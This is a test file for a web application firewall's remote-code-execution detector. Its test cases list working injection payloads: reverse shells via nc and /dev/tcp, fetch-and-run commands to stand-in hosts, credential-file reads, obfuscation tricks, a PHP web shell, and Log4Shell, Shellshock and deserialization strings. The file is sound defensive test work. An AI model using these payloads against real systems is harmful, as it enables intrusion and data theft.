import { describe, it, expect } from 'vitest';
import { rce } from '../../../../src/waf/detectors/rce.js';
import { GET, POST_JSON, UA, ctx } from './helpers.js';

const stamp = (v: string, c = GET) => rce.detect(v, c)?.stamp ?? null;

describe('rce detector', () => {
  it('has the right type', () => expect(rce.type).toBe('rce'));

  describe('separator + command', () => {
    it.each([
      '8.8.8.8; whoami',
      'x | id',
      'a && uname -a',
      'b || curl http://198.51.100.7/x',
      'file.txt\nwget -q -O- evil.example',
      'foo; nc -e /bin/sh 203.0.113.5 4444',
      'z & ping -n 20 127.0.0.1',
      'q;/usr/bin/id',
      'test | type C:\\Windows\\win.ini',
      '1;sleep 10',
      "a; python3 -c 'import os'",
    ])('%s', (v) => expect(stamp(v)).toBe('rce:separator-command'));
  });

  describe('substitution', () => {
    it.each(['name=$(whoami)', 'x`uname`y', '$(curl -s evil.example|sh)', 'id=`id`', 'v="$(cat /etc/hostname)"'])('%s', (v) =>
      expect(stamp(v)).toBe('rce:substitution'),
    );
  });

  describe('obfuscation', () => {
    it.each([
      ";c'a't /etc/os-release",
      '; w"h"o"a"m"i',
      ';c\\at /etc/issue',
      ';cat${IFS}/etc/hosts',
      ';cat$IFS$9/etc/group',
      '|who$@ami',
      '{cat,/etc/hosts}',
      '& w^h^o^a^m^i',
    ])('%s', (v) => expect(stamp(v)).not.toBeNull());
  });

  describe('other execution vectors', () => {
    it.each([
      ['() { ignored;}; /bin/id', 'rce:shellshock'],
      ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'rce:dev-tcp'],
      ['<?php system($_GET["c"]); ?>', 'rce:code-injection'],
      ["__import__('os').popen('id').read()", 'rce:code-injection'],
      ['Runtime.getRuntime().exec("id")', 'rce:code-injection'],
      ["require('child_process').execSync('id')", 'rce:code-injection'],
      ['eval(base64_decode($x))', 'rce:code-injection'],
      ['Eval("Ex"&"ecute(""x"")")', 'rce:code-injection'],
      ['!!python/object/apply:os.system ["id"]', 'rce:deserialization'],
      ['O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}', 'rce:deserialization'],
      ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'rce:deserialization'],
      ['${jndi:rmi://198.51.100.1/a}', 'rce:log4shell'],
      ['${${lower:j}${upper:n}di:ldap://x/y}', 'rce:log4shell'],
      ['${${::-j}ndi:dns://x}', 'rce:log4shell'],
    ])('%s', (v, s) => expect(stamp(v)).toBe(s));
  });

  it('works in headers and JSON bodies', () => {
    expect(stamp('() { :;}; echo vulnerable', UA)).toBe('rce:shellshock');
    expect(stamp('x; cat /etc/passwd', POST_JSON)).not.toBeNull();
    expect(stamp('${jndi:ldap://a/b}', ctx('header', 'x-api-version'))).toBe('rce:log4shell');
  });

  describe('look-alikes pass', () => {
    it.each([
      'echo in the mirror',
      'curl and divergence',
      'bash away in the gym',
      'zsh is the best!',
      'ls 300 lexus',
      'nc 8000 controller',
      'exec noun',
      'Tom & Jerry; cat lovers unite',
      'salt & pepper | sugar',
      'run `ls` to list files',
      'the operating system(s)',
      'a=1&id=5&ls=2',
      'sessionid=abc; id=42',
      'Mozilla/5.0 (X11; Linux x86_64) curl/8.0',
      '$(document).ready(fn)',
      '$(this).hide()',
      'price: $(5.00)',
      'I like it; ping me later',
      'time (sleep 5 hours)',
      'echo "hello"',
      're.exec("abc")',
      '{"a":1,"b":"x; y"}',
      'https://example.com/a;b?c=d&e=f',
    ])('%s', (v) => expect(stamp(v)).toBeNull());
  });
});
